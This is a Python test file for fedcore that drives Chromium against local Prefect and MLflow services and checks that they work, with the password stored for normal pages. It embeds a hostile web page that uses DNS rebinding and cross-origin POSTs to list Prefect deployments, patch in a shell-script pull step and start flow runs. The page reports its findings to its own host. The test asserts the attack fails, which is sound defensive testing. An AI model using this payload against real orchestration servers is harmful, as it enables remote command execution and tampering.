"""A browser that visits fedcore's pages and a hostile one: the former work, the latter gains no access."""

from __future__ import annotations

import contextlib
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest

from fedcore.home import Home
from flows.services.machine import down, up
from flows.services.secret import USER, basic, secret
from tests.chromium import PROGRAM, Browser, Tab, browser
from tests.flows.test_deployments import KNOWN, call
from tests.patience import HANGS
from tests.ports import ports_to_oneself
from tests.rebinding import NAME, site

pytestmark = [
    pytest.mark.slow,
    pytest.mark.minutes,
    pytest.mark.skipif(PROGRAM is None, reason="no Chromium is installed here"),
]

TOOK = 60.0
"""Seconds to wait for a hostile page's flow run: its command once ran after 21."""
PAGE = """<script>
const service = "http://127.0.0.1:%(port)d", found = {};
const json = {"Content-Type": "application/json"};
async function tried(what, act) {
  try { const answer = await act(); found[what] = [answer.type, answer.status]; return answer; }
  catch (error) { found[what] = ["error", 0]; return null; }
}
async function main() {
  const planted = name => JSON.stringify({name: name});
  const flows = service + "/api/flows/", simple = {method: "POST", mode: "no-cors", credentials: "include"};
  await tried("text", () => fetch(flows, {...simple, body: planted("by-text")}));
  await tried("no type", () => fetch(flows, {...simple, body: new Blob([planted("by-blob")])}));
  await tried("cors", () => fetch(flows, {method: "POST", headers: json, body: planted("by-cors")}));
  const list = await tried("list", () => fetch("/api/deployments/filter", {method: "POST", headers: json, body: "{}"}));
  let known = [];
  try { known = await list.json(); } catch (error) {}
  for (const each of Array.isArray(known) ? known : []) {
    const step = {"prefect.deployments.steps.run_shell_script": {script: "touch %(planted)s"}};
    await tried("patch", () => fetch("/api/deployments/" + each.id, {
      method: "PATCH", headers: json, body: JSON.stringify({pull_steps: [step], enforce_parameter_schema: false})}));
    await tried("start", () => fetch("/api/deployments/" + each.id + "/create_flow_run", {
      method: "POST", headers: json, body: "{}"}));
  }
  await fetch("http://%(name)s:%(own)d/report", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
}
main();
</script>"""


@pytest.fixture(scope="module")
def services(tmp_path_factory) -> Iterator[tuple[Home, dict[str, str]]]:
    home = Home(tmp_path_factory.mktemp("browser") / "home")
    with pytest.MonkeyPatch.context() as patch, ports_to_oneself():
        patch.setenv("PREFECT_RUNNER_POLL_FREQUENCY", "1")
        started = up(home, workers=1)
    KNOWN[urlsplit(started.addresses["prefect"]).netloc] = basic(secret(home))
    yield home, started.addresses
    down(home)


def state(api: str) -> tuple[list[Any], int, list[str]]:
    """State that a hostile page would change: deployments (without polling times), flow runs, names of flows."""
    listed = call(f"{api}/deployments/filter", {})
    fields = [{key: each[key] for key in ("id", "name", "parameters", "pull_steps", "entrypoint")} for each in listed]
    flows = sorted(each["name"] for each in call(f"{api}/flows/filter", {}))
    return sorted(fields, key=lambda each: each["id"]), call(f"{api}/flow_runs/count", {}), flows


@contextlib.contextmanager
def shown(visitor: Browser, home: Home, address: str, path: str) -> Iterator[Tab]:
    """Opens a page of fedcore and types the password, which the browser stores for the whole origin."""
    with visitor.tab(f"http://{address}{path}", (USER, secret(home))) as tab:
        yield tab


@pytest.mark.parametrize("logged_in", [False, True])
def test_a_page_whose_name_is_rebound_to_this_machine_does_nothing(services, tmp_path, logged_in):
    """Listing, patching and starting as from the same origin; simple requests as from another one.

    `logged_in`: the same browser has the password already, and shows fedcore's page.
    """
    home, addresses = services
    api = addresses["prefect"]
    service, planted = urlsplit(api).port, tmp_path / "planted"
    assert service is not None
    before = state(api)
    with site(service, "") as evil:
        evil.page = (PAGE % {"port": service, "planted": planted, "name": NAME, "own": evil.own}).encode()
        proxy = (f"--proxy-server=socks5://127.0.0.1:{evil.port}", "--proxy-bypass-list=<-loopback>")
        with browser(tmp_path, *proxy) as visitor:
            if logged_in:
                with visitor.tab(f"http://{USER}:{secret(home)}@127.0.0.1:{service}/") as logged_in_tab:
                    logged_in_tab.until("document.readyState == 'complete'")
                # A page whose address holds a password may not fetch; the browser stores the password.
                with visitor.tab(f"http://127.0.0.1:{service}/") as mine:
                    mine.until("document.body.innerText.includes('Deployments')", HANGS)
                    options = "{method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'}"
                    assert mine.value(f"fetch('/api/flows/filter', {options}).then(got => got.status)") == 200
            with visitor.tab(f"http://{NAME}:{service}/"):
                assert evil.reported.wait(HANGS)
    assert evil.rebound.is_set()
    until = time.monotonic() + TOOK * ("start" in evil.report)
    while time.monotonic() < until and not planted.exists():
        time.sleep(0.5)
    assert not planted.exists(), "its command was run"
    assert state(api) == before
    assert evil.report["list"] == ["basic", 403] and "patch" not in evil.report
    # The browser hides the answers to requests that it lets any page send.
    assert evil.report["text"] == evil.report["no type"] == ["opaque", 0]
    assert evil.report["cors"] == ["error", 0]


def test_the_pages_work_with_the_password_and_show_what_happens_as_it_happens(services, tmp_path):
    """Prefect's page learns of a flow run by a WebSocket, which the browser opens with the stored password."""
    home, addresses = services
    prefect, mlflow = (urlsplit(addresses[name]).netloc for name in ("prefect", "mlflow"))
    flow = call(f"{addresses['prefect']}/flows/", {"name": "seen-by-a-browser"})["id"]

    def started(name: str) -> str:
        made = {"flow_id": flow, "name": name, "state": {"type": "RUNNING"}}
        return call(f"{addresses['prefect']}/flow_runs/", made)["id"]

    started("seen-at-once")  # a list that is empty when it is opened stays so
    with browser(tmp_path) as visitor:
        with shown(visitor, home, prefect, "/runs") as page:
            page.until("document.body.innerText.includes('seen-at-once')")
            identity = started("seen-as-it-happens")
            page.until("document.body.innerText.includes('seen-as-it-happens')", HANGS)
            opened = f"""new Promise(end => {{
                const socket = new WebSocket("ws://{prefect}/api/events/out", ["prefect"]);
                socket.onopen = () => end("open"); socket.onclose = () => end("closed"); }})"""
            assert page.value(opened) == "open"
            page.call("Page.navigate", url=f"http://{prefect}/runs/flow-run/{identity}")
            page.until("document.body.innerText.includes('Running')")
            page.picture(tmp_path / "prefect.png")
        with shown(visitor, home, mlflow, "/") as page:
            page.until("document.body.innerText.includes('Experiments')")
            page.picture(tmp_path / "mlflow.png")
